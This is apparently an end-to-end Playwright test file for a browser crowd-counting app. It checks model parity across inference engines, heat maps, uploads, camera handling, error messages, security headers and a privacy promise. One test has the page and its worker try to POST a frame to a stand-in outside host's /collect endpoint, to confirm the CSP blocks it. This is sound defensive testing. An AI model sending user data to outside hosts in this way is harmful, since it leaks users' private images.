/**
 * The production build in a real Chromium, served with its real headers:
 * forward parity with PyTorch on every engine (onnxruntime-web wasm and
 * WebGPU, tfjs webgl and wasm) through the page's own worker, decoding and
 * inference path; multi-threaded wasm under cross-origin isolation; the
 * heat map byte-identical to the CLI's; the upload, URL and camera paths;
 * remembered models; readable errors; memory over many frames; and the
 * privacy promise: every request is recorded, none leaves the page's origin
 * except the one model download a test asks for from an allowed origin, a
 * URL outside the allowlist makes no request, and the CSP stops a page or
 * worker script that tries. Needs Debian's /usr/bin/chromium.
 */
import { mkdir, mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { renderHeatmap } from '@crowd/count/node';
import { formatDensity, heatmapOverlay } from '@crowd/heatmap';
import { fixture, readNpy } from '@crowd/test-utils';
import { chromium, type BrowserContext, type Page } from 'playwright-core';
import type { PreviewServer } from 'vite';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { headersFile, securityHeaders } from '../src/security-headers.ts';
import { modelOrigins } from '../src/model-origins.ts';
import type { FixtureRun, FixtureRunOptions, HeatmapBytes } from '../src/test-hook.ts';
import { writeFixtureModel, writeFixtureOnnx, writeFullFormulaModel } from './fixture-models.ts';
import { buildApp, CHROMIUM_ARGS, freePort, previewApp, requireChromium, serveModelHost } from './serve-app.ts';

const APP_ROOT = dirname(dirname(fileURLToPath(import.meta.url)));
const FULL_MODEL = 'model-full/model.json';
const ONNX_MODEL = 'model-onnx/csrnet.onnx';
const OUTSIDE = 'https://models.not-allowed.example';

let temp: string;
let site: string;
let server: PreviewServer | undefined;
let modelHost: Awaited<ReturnType<typeof serveModelHost>> | undefined;
let context: BrowserContext | undefined;
let page: Page;
let origin: string;
/** Every request the browser made (context.on('request'): the page, its worker and onnxruntime's pthread workers). */
const requests: string[] = [];
/** Every request that went through context.route. */
const routed: string[] = [];
const responses: { url: string; status: number; headers: Record<string, string> }[] = [];
const pageErrors: string[] = [];
const consoleErrors: string[] = [];
const consoleWarnings: string[] = [];
const imageBytes = async (name: string) => [...(await readFile(fixture(name, 'input_image.png')))];
const expectedDensity = (name: string) => readNpy(fixture(name, 'output.npy')).data as Float32Array;
const offOrigin = (list: string[]) => list.filter((url) => new URL(url).origin !== new URL(origin).origin);

function compare(run: { density: ArrayLike<number> }, expected: Float32Array) {
  let diff = 0;
  let scale = 0;
  for (let i = 0; i < expected.length; i++) {
    diff = Math.max(diff, Math.abs(run.density[i] - expected[i]));
    scale = Math.max(scale, Math.abs(expected[i]));
  }
  return { diff, scale };
}

/** expect.poll with room for slow engines on 2 shared cores. */
const poll = <T>(read: () => Promise<T>, timeout = 30_000) => expect.poll(read, { timeout, interval: 100 });

function runFixture(options: FixtureRunOptions, on: Page = page): Promise<FixtureRun> {
  return on.evaluate((o) => window.__crowdTest!.runFixture(o), options);
}

/** The pixels of a PNG as Chromium decodes it (RGB; the PNGs here are opaque, so the canvas loses nothing). */
function decodeRgb(bytes: Uint8Array): Promise<{ width: number; height: number; rgb: number[] }> {
  return page.evaluate(async (png) => {
    const bitmap = await createImageBitmap(new Blob([new Uint8Array(png)]));
    const canvas = new OffscreenCanvas(bitmap.width, bitmap.height);
    const ctx = canvas.getContext('2d')!;
    ctx.drawImage(bitmap, 0, 0);
    const data = ctx.getImageData(0, 0, bitmap.width, bitmap.height).data;
    const rgb: number[] = [];
    for (let i = 0; i < data.length; i += 4) rgb.push(data[i], data[i + 1], data[i + 2]);
    return { width: bitmap.width, height: bitmap.height, rgb };
  }, [...bytes]);
}

const rgbaOf = (heatmap: HeatmapBytes) => new Uint8Array(Buffer.from(heatmap.rgbaBase64, 'base64'));

async function launch(profile: string, extraArgs: string[] = []): Promise<BrowserContext> {
  await mkdir(profile, { recursive: true });
  return chromium.launchPersistentContext(profile, {
    executablePath: requireChromium(),
    headless: true,
    // The fake camera lets the camera path run; without a granted permission it is denied, as for a user who says no.
    args: [...CHROMIUM_ARGS, '--use-fake-device-for-media-stream', ...extraArgs],
  });
}

beforeAll(async () => {
  requireChromium();
  temp = await mkdtemp(join(tmpdir(), 'crowd-web-test-'));
  site = join(temp, 'site');
  // A second origin that serves models with CORS, allowed at build time as a deployment would allow its model host.
  const hostPort = await freePort();
  const allowed = `http://localhost:${hostPort}`;
  await buildApp(APP_ROOT, site, allowed);
  // The app loads ./model/model.json by default: the ÷8 fixture checkpoint, converted as `crowd convert` does.
  await writeFixtureModel(join(site, 'model'));
  await writeFullFormulaModel(join(site, 'model-full'));
  await writeFixtureOnnx(join(site, 'model-onnx'));
  modelHost = await serveModelHost(join(site, 'model-onnx'), hostPort);
  const preview = await previewApp(APP_ROOT, site, allowed);
  server = preview.server;
  origin = preview.url;
  context = await launch(join(temp, 'profile'));
  context.on('request', (request) => requests.push(request.url()));
  context.on('response', (response) => responses.push({ url: response.url(), status: response.status(), headers: response.headers() }));
  await context.route('**/*', (route) => {
    routed.push(route.request().url());
    return route.continue();
  });
  page = context.pages()[0] ?? (await context.newPage());
  page.on('pageerror', (error) => pageErrors.push(error.message));
  page.on('console', (message) => {
    if (message.type() === 'error') consoleErrors.push(message.text());
    if (message.type() === 'warning') consoleWarnings.push(message.text());
  });
  await page.goto(origin);
  await page.evaluate(() => window.__crowdTest!.ready);
}, 180_000);

afterAll(async () => {
  await context?.close();
  await server?.close();
  await modelHost?.close();
  if (temp) await rm(temp, { recursive: true, force: true });
});

describe('the build', () => {
  test('writes _headers with the same CSP (its connect-src: this origin, the GitHub release hosts and CROWD_MODEL_ORIGINS) and COOP/COEP', async () => {
    const headers = securityHeaders({ modelOrigins: modelOrigins(modelHost!.origin) });
    expect(await readFile(join(site, '_headers'), 'utf8')).toBe(headersFile(headers));
    expect(headers['Content-Security-Policy']).toContain(`connect-src 'self' https://github.com https://objects.githubusercontent.com https://release-assets.githubusercontent.com ${modelHost!.origin};`);
  });
});

describe('engines', () => {
  test('auto: onnxruntime-web on multi-threaded wasm, cross-origin isolated; WebGPU skipped, saying why (no adapter in this headless Chromium)', async () => {
    await poll(() => page.textContent('#model-status')).toMatch(/model\/model\.json: CSRNet B, width ÷8, 254,825 parameters \(tfjs\)$/);
    expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
    const run = await runFixture({ engine: 'auto', image: await imageBytes('csrnet') });
    expect(run.engine).toMatchObject({ engine: 'ort-wasm', name: 'onnxruntime-web (wasm)', crossOriginIsolated: true });
    expect(run.engine.threads).toBeGreaterThan(1);
    expect(run.engine.tried).toEqual([{ engine: 'ort-webgpu', error: expect.stringMatching(/^navigator\.gpu\.requestAdapter\(\) found no adapter/) }]);
    expect(await page.textContent('#engine-status')).toMatch(/^using onnxruntime-web \(wasm\), \d+ threads, cross-origin isolated — ort-webgpu unavailable: navigator\.gpu\.requestAdapter\(\) found no adapter/);
    // onnxruntime runs threads - 1 pthread workers next to the inference worker's own thread; each loads the glue from this origin.
    const pthreads = page.workers().filter((w) => /\/assets\/ort-wasm-simd-threaded\.jsep-[\w-]+\.mjs$/.test(w.url()));
    console.log(`[engines] ${run.engine.name}: ${run.engine.threads} threads, ${pthreads.length} pthread workers, crossOriginIsolated ${run.engine.crossOriginIsolated}; navigator.hardwareConcurrency ${await page.evaluate(() => navigator.hardwareConcurrency)}`);
    expect(pthreads.length).toBe(run.engine.threads! - 1);
    expect(await page.isHidden('#message')).toBe(true);
  });

  const expected = expectedDensity('csrnet');
  const expectedFull = expectedDensity('csrnet-full-formula');
  // Grouped by engine: each switch rebuilds every loaded model on the new engine. The full-width
  // model is not run on tfjs webgl: SwiftShader (a CPU emulation of a GPU) takes 15–25 s for it here.
  const cases = [
    { engine: 'ort-wasm', model: 'model/model.json', fixture: 'csrnet', tolerance: 1e-5 },
    { engine: 'ort-wasm', model: ONNX_MODEL, fixture: 'csrnet', tolerance: 1e-5 },
    { engine: 'ort-wasm', model: FULL_MODEL, fixture: 'csrnet-full-formula', tolerance: 1e-5 },
    { engine: 'tfjs-wasm', model: 'model/model.json', fixture: 'csrnet', tolerance: 1e-4 },
    { engine: 'tfjs-wasm', model: FULL_MODEL, fixture: 'csrnet-full-formula', tolerance: 1e-4 },
    { engine: 'tfjs-webgl', model: 'model/model.json', fixture: 'csrnet', tolerance: 1e-4 },
  ] as const;

  test.each(cases)('$engine: $model on input_image.png → PyTorch output.npy within $tolerance × max|output|', async ({ engine, model, fixture: name, tolerance }) => {
    const run = await runFixture({ engine, modelUrl: model, image: await imageBytes(name) });
    expect(run.engine.engine).toBe(engine);
    expect(run.ranOn).toBe(run.engine.name);
    expect(run.model.parameters).toBe(name === 'csrnet' ? 254_825 : 16_263_489);
    expect(run.model.format).toBe(model.endsWith('.onnx') ? 'onnx' : 'tfjs');
    if (engine === 'tfjs-webgl') expect(run.engine.device).toMatch(/^WebGL 2, /);
    const { diff, scale } = compare(run, name === 'csrnet' ? expected : expectedFull);
    console.log(`[parity] ${run.engine.name} ${model}: max |diff| ${diff.toExponential(2)} = ${(diff / scale).toExponential(2)} × max |output| ${scale.toFixed(3)}, count ${run.count.toFixed(4)}, ${run.ms.toFixed(0)} ms`);
    expect(diff).toBeLessThanOrEqual(tolerance * scale);
  });

  test('the full model is freed again: its 34 tensors on tfjs, its session on onnxruntime', async () => {
    const before = await page.evaluate(() => window.__crowdTest!.memory());
    await page.evaluate((url) => window.__crowdTest!.release(url), FULL_MODEL);
    const after = await page.evaluate(() => window.__crowdTest!.memory());
    expect(before.tfjsTensors - after.tfjsTensors).toBe(34);
    const onOrt = await runFixture({ engine: 'ort-wasm', image: await imageBytes('csrnet') });
    // The page's model, the ÷8 test model and the .onnx: one session each, no more.
    expect(onOrt.memory).toMatchObject({ ortSessions: 3, tfjsTensors: 0 });
  });

  test.each(['ort-wasm', 'tfjs-wasm'] as const)('%s: 5 inferences leave tfjs tensors and onnxruntime sessions unchanged', async (engine) => {
    const image = await imageBytes('csrnet');
    const memories: string[] = [];
    for (let i = 0; i < 5; i++) memories.push(JSON.stringify((await runFixture({ engine, image })).memory));
    expect(new Set(memories).size, memories.join(', ')).toBe(1);
  });
});

describe('the page', () => {
  test('uploading input_image.png (auto): the count, its warning next to it, the heat map and its legend from 0', async () => {
    await page.selectOption('#engine', 'auto');
    await poll(() => page.textContent('#engine-status')).toMatch(/^using onnxruntime-web \(wasm\)/);
    await page.setInputFiles('#image-input', fixture('csrnet', 'input_image.png'));
    await page.waitForSelector('#count[data-count]');
    const sum = expectedDensity('csrnet').reduce((a, b) => a + b, 0);
    expect(sum.toFixed(2)).toBe('-37.16');
    expect(await page.textContent('#count')).toBe('-37.16');
    expect(await page.isVisible('#warnings')).toBe(true);
    expect(await page.getAttribute('#warnings', 'data-codes')).toBe('NEGATIVE_COUNT');
    expect(await page.textContent('#warnings')).toBe(
      'Warning: the density sums to -37.16 people: the model is untrained or wrong for this image (another scale or kind of scene); do not trust this count.',
    );
    expect(await page.textContent('#scale-note')).toBe('Counted at full size, 96×64 px.');
    expect(await page.textContent('#timing')).toMatch(/ on onnxruntime-web \(wasm\)$/);
    const { vmax, clamped } = await page.evaluate(() => window.__crowdTest!.lastHeatmap()!);
    expect(vmax).toBeGreaterThan(0);
    expect(await page.textContent('#legend-lo')).toBe('0');
    expect(await page.textContent('#legend-hi')).toBe(`${formatDensity(vmax)}${clamped ? '+' : ''}`);
    expect(await page.isHidden('#message')).toBe(true);
  });

  test('the heat map is the CLI\'s: the page\'s overlay bytes equal heatmapOverlay in Node, and the CLI PNG is that overlay over the photo', async () => {
    const drawn = await page.evaluate(() => window.__crowdTest!.lastHeatmap()!);
    expect([drawn.width, drawn.height, drawn.densityWidth, drawn.densityHeight]).toEqual([96, 64, 12, 8]);
    const map = { height: drawn.densityHeight, width: drawn.densityWidth, data: Float32Array.from(drawn.density) };
    const node = heatmapOverlay(map, drawn.width, drawn.height);
    const rgba = rgbaOf(drawn);
    expect(Buffer.from(rgba).equals(Buffer.from(node.rgba))).toBe(true);
    expect([drawn.vmax, drawn.clamped]).toEqual([node.vmax, node.clamped]);
    const tinted = rgba.filter((_, i) => i % 4 === 3 && rgba[i] > 0).length;

    // A fixture density (PyTorch's, for the full-width model) over a photo size that is no multiple of 8.
    const full = readNpy(fixture('csrnet-full-formula', 'output.npy'));
    const fromPage = await page.evaluate(([density]) => window.__crowdTest!.overlay(density, 12, 8, 101, 67), [Array.from(full.data)]);
    const fromNode = heatmapOverlay({ height: 8, width: 12, data: Float32Array.from(full.data) }, 101, 67);
    expect(Buffer.from(rgbaOf(fromPage)).equals(Buffer.from(fromNode.rgba))).toBe(true);

    // The CLI's picture of the same density: its photo region is the overlay composited over the photo ("over", within rounding).
    const photo = await decodeRgb(await readFile(fixture('csrnet', 'input_image.png')));
    const png = await renderHeatmap({ width: 96, height: 64, data: Uint8Array.from(photo.rgb) }, map, { count: -37.16, format: 'png' });
    const cli = await decodeRgb(png);
    let worst = 0;
    let worstCanvas = 0;
    const canvas = await page.evaluate(() => {
      const c = document.querySelector<HTMLCanvasElement>('#heatmap')!;
      return Array.from(c.getContext('2d')!.getImageData(0, 0, c.width, c.height).data);
    });
    for (let p = 0; p < 96 * 64; p++) {
      const a = rgba[4 * p + 3] / 255;
      for (let c = 0; c < 3; c++) {
        const blend = Math.round(photo.rgb[3 * p + c] * (1 - a) + rgba[4 * p + c] * a);
        const y = Math.floor(p / 96);
        worst = Math.max(worst, Math.abs(cli.rgb[3 * (y * cli.width + (p % 96)) + c] - blend));
        worstCanvas = Math.max(worstCanvas, Math.abs(canvas[4 * p + c] - blend));
      }
    }
    console.log(`[heatmap] ${tinted} of ${96 * 64} pixels tinted, vmax ${drawn.vmax}; CLI PNG vs the page overlay over the photo: max |diff| ${worst}; the page's canvas: ${worstCanvas}`);
    expect(tinted).toBeGreaterThan(0);
    expect(worst).toBeLessThanOrEqual(1);
    // The canvas composites in premultiplied 8-bit: a rounding step more than the CLI's blend.
    expect(worstCanvas).toBeLessThanOrEqual(2);
  });

  test('a large photo is downscaled to the largest side, and the page says so', async () => {
    await page.selectOption('#max-side', '512');
    const big = await page.evaluate(async () => {
      const canvas = new OffscreenCanvas(1200, 800);
      const ctx = canvas.getContext('2d')!;
      ctx.fillStyle = '#777';
      ctx.fillRect(0, 0, 1200, 800);
      return [...new Uint8Array(await (await canvas.convertToBlob({ type: 'image/jpeg' })).arrayBuffer())];
    });
    await page.setInputFiles('#image-input', { name: 'big.jpg', mimeType: 'image/jpeg', buffer: Buffer.from(big) });
    await poll(() => page.textContent('#scale-note')).toBe('Counted at 512×341 px, downscaled from 1200×800 (largest side 512 px); the count is for the whole picture.');
    await page.selectOption('#max-side', '1024');
  });

  test('picked models: a .pth.tar, an .onnx, and a model.json + weights.bin kept in IndexedDB across a reload', async () => {
    await page.setInputFiles('#model-input', fixture('csrnet', 'legacy', 'model_best.pth.tar'));
    await poll(() => page.textContent('#model-status')).toBe('model_best.pth.tar: CSRNet B, width ÷8, 254,825 parameters (pytorch)');
    await page.setInputFiles('#image-input', fixture('csrnet', 'input_image.png'));
    await poll(() => page.textContent('#scale-note')).toBe('Counted at full size, 96×64 px.');
    expect(await page.textContent('#count')).toBe('-37.16');

    await page.setInputFiles('#model-input', join(site, ONNX_MODEL));
    await poll(() => page.textContent('#model-status')).toBe('csrnet.onnx: CSRNet B, width ÷8, 254,825 parameters (onnx)');

    await page.check('#save-model');
    await page.setInputFiles('#model-input', [join(site, 'model', 'model.json'), join(site, 'model', 'weights.bin')]);
    await poll(() => page.textContent('#model-status')).toBe('model.json + weights.bin: CSRNet B, width ÷8, 254,825 parameters (tfjs) · saved on this device');
    expect(await page.isVisible('#forget-model')).toBe(true);
    await page.reload();
    await page.evaluate(() => window.__crowdTest!.ready);
    expect(await page.textContent('#model-status')).toBe('the copy saved on this device (model.json + weights.bin): CSRNet B, width ÷8, 254,825 parameters (tfjs) · saved on this device');
    await page.click('#forget-model');
    await poll(() => page.isHidden('#forget-model')).toBe(true);
    await page.uncheck('#save-model');
    await page.setInputFiles('#image-input', fixture('csrnet', 'input_image.png'));
    await poll(() => page.textContent('#count')).toBe('-37.16');
  });

  test('the camera: denied is a readable message; allowed, 12 frames on onnxruntime and 5 on tfjs grow neither sessions nor tensors', async () => {
    await page.click('#camera-start');
    await poll(() => page.textContent('#message')).toMatch(/^Starting the camera failed: Camera access was denied\./);
    await context!.grantPermissions(['camera'], { origin });
    await page.selectOption('#max-side', '512');
    await page.fill('#camera-interval', '100');
    for (const [engine, frames] of [['auto', 12], ['tfjs-wasm', 5]] as const) {
      await page.selectOption('#engine', engine);
      await poll(() => page.textContent('#engine-status')).toMatch(engine === 'auto' ? /^using onnxruntime-web \(wasm\)/ : /^using tfjs \(wasm\)/);
      const first = Number(await page.getAttribute('#count', 'data-frames'));
      await page.click('#camera-start');
      const readings: string[] = [];
      await poll(async () => {
        readings.push(/tfjs: (\d+) tensors, .* · onnxruntime: (\d+) sessions/.exec((await page.textContent('#debug')) ?? '')!.slice(1).join('/'));
        return Number(await page.getAttribute('#count', 'data-frames')) - first;
      }, 60_000).toBeGreaterThanOrEqual(frames);
      await page.click('#camera-stop');
      expect(await page.isDisabled('#camera-stop')).toBe(true);
      console.log(`[camera] ${engine}: ${Number(await page.getAttribute('#count', 'data-frames')) - first} frames; tensors/sessions after each poll: ${[...new Set(readings)].join(', ')}`);
      // The first reading may predate the first frame.
      expect(new Set(readings.slice(1)).size, readings.join(', ')).toBe(1);
      expect(await page.textContent('#scale-note')).toMatch(/^Counted at 512×\d+ px, downscaled from \d+×\d+ \(largest side 512 px\)/);
      expect(await page.isHidden('#message')).toBe(true);
    }
    await page.selectOption('#engine', 'auto');
    await page.selectOption('#max-side', '1024');
  });

  test('a model URL on this origin, remembered: after a reload it comes from IndexedDB, with no request for it', async () => {
    const url = new URL(ONNX_MODEL, origin).href;
    await page.check('#save-model');
    await page.fill('#model-url', url);
    await page.click('#model-url-load');
    await poll(() => page.textContent('#model-status')).toBe(`${url}: CSRNet B, width ÷8, 254,825 parameters (onnx) · saved on this device`);
    await page.uncheck('#save-model');
    const before = requests.length;
    await page.reload();
    await page.evaluate(() => window.__crowdTest!.ready);
    expect(await page.textContent('#model-status')).toBe(`the copy saved on this device (${url}): CSRNet B, width ÷8, 254,825 parameters (onnx) · saved on this device`);
    expect(requests.slice(before).filter((r) => r.includes('/model-onnx/') || r.includes('/model/'))).toEqual([]);
    await page.setInputFiles('#image-input', fixture('csrnet', 'input_image.png'));
    await poll(() => page.textContent('#count')).toBe('-37.16');
    await page.click('#forget-model');
    await poll(() => page.isHidden('#forget-model')).toBe(true);
  });

  test('a model from an allowed other origin (CROWD_MODEL_ORIGINS at build time) loads: that one request leaves the origin', async () => {
    const url = `${modelHost!.origin}/csrnet.onnx`;
    const before = requests.length;
    await page.fill('#model-url', url);
    await page.click('#model-url-load');
    await poll(() => page.textContent('#model-status')).toBe(`${url}: CSRNet B, width ÷8, 254,825 parameters (onnx)`);
    expect(offOrigin(requests.slice(before))).toEqual([url]);
  });

  test('forcing tfjs with an ONNX model says tfjs cannot run it; auto runs it again', async () => {
    await page.selectOption('#engine', 'tfjs-wasm');
    await poll(() => page.textContent('#message')).toMatch(/^http:\/\/localhost:\d+\/csrnet\.onnx is an ONNX model, which tfjs cannot run\. Choose the auto or an onnxruntime engine, or load the tfjs model or PyTorch checkpoint it was exported from\.$/);
    await page.setInputFiles('#image-input', fixture('csrnet', 'input_image.png'));
    await poll(() => page.textContent('#message')).toMatch(/^Counting the photo failed: .*tfjs cannot run/);
    await page.selectOption('#engine', 'auto');
    await poll(() => page.textContent('#engine-status')).toMatch(/^using onnxruntime-web \(wasm\)/);
    const frames = Number(await page.getAttribute('#count', 'data-frames'));
    await page.setInputFiles('#image-input', fixture('csrnet', 'input_image.png'));
    await poll(() => page.getAttribute('#count', 'data-frames')).toBe(String(frames + 1));
    expect(await page.isHidden('#message')).toBe(true);
  });

  test('a URL outside the allowlist is refused by the app, naming the allowed origins, and makes no request', async () => {
    const before = requests.length;
    const routedBefore = routed.length;
    const status = await page.textContent('#model-status');
    await page.fill('#model-url', `${OUTSIDE}/PartAmodel_best.pth.tar`);
    await page.click('#model-url-load');
    await poll(() => page.textContent('#message')).toBe(
      `Loading the model failed: ${OUTSIDE} is not an allowed model origin, so nothing was fetched. This app may load models only from ${new URL(origin).origin}, https://github.com, https://objects.githubusercontent.com, https://release-assets.githubusercontent.com, ${modelHost!.origin}. ` +
        `To allow another origin, build or serve the app with CROWD_MODEL_ORIGINS="${OUTSIDE}" (the README explains). Or download the model and pick the file with "Load model files…".`,
    );
    expect(await page.textContent('#model-status')).toBe(status);
    expect(requests.slice(before)).toEqual([]);
    expect(routed.slice(routedBefore)).toEqual([]);
  });

  test('the CSP stops a script in the page or in its worker that posts to another origin: no request is made', async () => {
    const before = requests.length;
    const leak = `${OUTSIDE}/collect`;
    const inPage = await page.evaluate((url) => fetch(url, { method: 'POST', body: 'a frame' }).then(() => 'sent', (e: Error) => e.message), leak);
    const worker = page.workers().find((w) => w.url().includes('/assets/inference-worker-'))!;
    const inWorker = await worker.evaluate((url) => fetch(url, { method: 'POST', body: 'a frame' }).then(() => 'sent', (e: Error) => e.message), leak);
    expect([inPage, inWorker]).toEqual(['Failed to fetch', 'Failed to fetch']);
    expect(offOrigin(requests.slice(before))).toEqual([]);
    // Chromium reports each refusal on the console: the CSP directive that blocked it.
    expect(consoleErrors.filter((e) => e.includes(leak)).some((e) => e.includes('violates the following Content Security Policy directive'))).toBe(true);
  });

  test('a text file as a model, an HTML page saved as .pth.tar or .onnx, and a non-image are readable errors', async () => {
    const status = await page.textContent('#model-status');
    const cases = [
      { input: '#model-input', file: { name: 'notes.txt', mimeType: 'text/plain', buffer: Buffer.from('just some notes') }, message: /^Loading the model failed: Expected a CSRNet PyTorch checkpoint \(\.pth \/ \.pth\.tar\), an ONNX model \(\.onnx\) or a tfjs model\.json with its weights\.bin; got notes\.txt\.$/ },
      { input: '#model-input', file: { name: 'model.json', mimeType: 'application/json', buffer: Buffer.from('not json at all') }, message: /^Loading the model failed: model\.json needs its weights file/ },
      { input: '#model-input', file: [{ name: 'model.json', mimeType: 'application/json', buffer: Buffer.from('<html>not json</html>') }, { name: 'weights.bin', mimeType: 'application/octet-stream', buffer: Buffer.alloc(8) }], message: /^Loading the model failed: could not load the model: model\.json is not a tfjs model\.json \(not valid JSON/ },
      { input: '#model-input', file: { name: 'PartAmodel_best.pth.tar', mimeType: 'application/x-tar', buffer: Buffer.from('<!DOCTYPE html>\n<html><head><title>Sign in</title></head><body>Please sign in</body></html>') }, message: /^Loading the model failed: PartAmodel_best\.pth\.tar: .*HTML.*Pick a tfjs model\.json/ },
      { input: '#model-input', file: { name: 'csrnet.onnx', mimeType: 'application/octet-stream', buffer: Buffer.from('<!DOCTYPE html>\n<html><body>Not Found</body></html>') }, message: /^Loading the model failed: csrnet\.onnx: this looks like an HTML page, not an ONNX model.*Pick an \.onnx written by crowd export/ },
      { input: '#image-input', file: { name: 'crowd.jpg', mimeType: 'image/jpeg', buffer: Buffer.from('this is not a JPEG') }, message: /^Counting the photo failed: crowd\.jpg \(image\/jpeg\) could not be read as an image\. JPEG, PNG and WebP photos work\.$/ },
    ];
    for (const { input, file, message } of cases) {
      await page.setInputFiles(input, file);
      await poll(() => page.textContent('#message')).toMatch(message);
      expect(await page.isVisible('#message')).toBe(true);
    }
    expect(await page.textContent('#model-status')).toBe(status); // the working model stays
  });
});

describe('privacy and headers, over everything above', () => {
  test('requests: all to the page\'s origin except the one model the test fetched from the allowed host; every one went through context.route', () => {
    const off = offOrigin(requests);
    const byKind = new Map<string, number>();
    for (const url of requests) {
      const path = new URL(url).pathname;
      const kind = path.endsWith('.wasm') ? 'wasm' : /\.m?js$/.test(path) ? 'script' : path.includes('model') ? 'model' : path === '/' ? 'page' : 'other';
      byKind.set(kind, (byKind.get(kind) ?? 0) + 1);
    }
    console.log(`[requests] ${requests.length} in all (${[...byKind].map(([k, n]) => `${k} ${n}`).join(', ')}); off the page's origin: ${off.length ? off.join(', ') : 'none'}`);
    expect(off).toEqual([`${modelHost!.origin}/csrnet.onnx`]);
    expect([...routed].sort()).toEqual([...requests].sort());
  });

  test('every response from the app carried the CSP, COOP and COEP', () => {
    const expected = securityHeaders({ modelOrigins: modelOrigins(modelHost!.origin) });
    const own = responses.filter((r) => new URL(r.url).origin === new URL(origin).origin);
    expect(own.length).toBeGreaterThan(20);
    for (const { url, headers } of own) {
      expect({ url, csp: headers['content-security-policy'], coop: headers['cross-origin-opener-policy'], coep: headers['cross-origin-embedder-policy'] }).toEqual({
        url,
        csp: expected['Content-Security-Policy'],
        coop: 'same-origin',
        coep: 'require-corp',
      });
    }
  });

  test('no page errors, and no console errors but the CSP refusals the test provoked', () => {
    if (consoleWarnings.length > 0) console.log(`console warnings (not failures):\n${consoleWarnings.join('\n')}`);
    expect(pageErrors).toEqual([]);
    expect(consoleErrors.filter((e) => !e.includes(`${OUTSIDE}/collect`))).toEqual([]);
  });
});

describe('WebGPU (Chromium with --enable-unsafe-webgpu: SwiftShader)', () => {
  const expected = expectedDensity('csrnet');
  let browser: BrowserContext | undefined;
  let gpuPage: Page;
  afterAll(() => browser?.close());

  test('auto passes over the software adapter, saying why; forced, onnxruntime-web WebGPU matches PyTorch on the ÷8 model', async () => {
    browser = await launch(join(temp, 'profile-webgpu'), ['--enable-unsafe-webgpu']);
    gpuPage = browser.pages()[0] ?? (await browser.newPage());
    const errors: string[] = [];
    gpuPage.on('pageerror', (error) => errors.push(error.message));
    gpuPage.on('console', (message) => void (message.type() === 'error' && errors.push(message.text())));
    await gpuPage.goto(origin);
    await gpuPage.evaluate(() => window.__crowdTest!.ready);
    const adapter = await gpuPage.evaluate(async () => {
      const found = await (navigator as unknown as { gpu?: { requestAdapter(): Promise<{ info: { vendor: string; architecture: string } } | null> } }).gpu?.requestAdapter();
      return found ? `${found.info.vendor} ${found.info.architecture}` : null;
    });
    const image = await imageBytes('csrnet');
    if (adapter === null) {
      // This Chromium offers no adapter even so: asking for WebGPU is refused, saying why, and auto runs wasm.
      await expect(runFixture({ engine: 'ort-webgpu', image }, gpuPage)).rejects.toThrow(/found no adapter|offers no WebGPU/);
      expect((await runFixture({ engine: 'auto', image }, gpuPage)).engine.engine).toBe('ort-wasm');
      return;
    }
    const auto = await runFixture({ engine: 'auto', image }, gpuPage);
    expect(auto.engine.engine).toBe('ort-wasm');
    expect(auto.engine.tried).toEqual([{ engine: 'ort-webgpu', error: `the WebGPU adapter (${adapter}) is a software one, emulated on the CPU and far slower than wasm; choose "onnxruntime-web, WebGPU" to use it anyway` }]);
    const run = await runFixture({ engine: 'ort-webgpu', image }, gpuPage);
    expect(run.engine).toMatchObject({ engine: 'ort-webgpu', name: 'onnxruntime-web (webgpu)', device: adapter });
    expect(run.ranOn).toBe('onnxruntime-web (webgpu)');
    const { diff, scale } = compare(run, expected);
    console.log(`[parity] onnxruntime-web (webgpu) on ${adapter}, ÷8: max |diff| ${diff.toExponential(2)} = ${(diff / scale).toExponential(2)} × max |output|, ${run.ms.toFixed(0)} ms`);
    expect(diff).toBeLessThanOrEqual(1e-5 * scale);
    expect(errors).toEqual([]);
  }, 240_000);
});
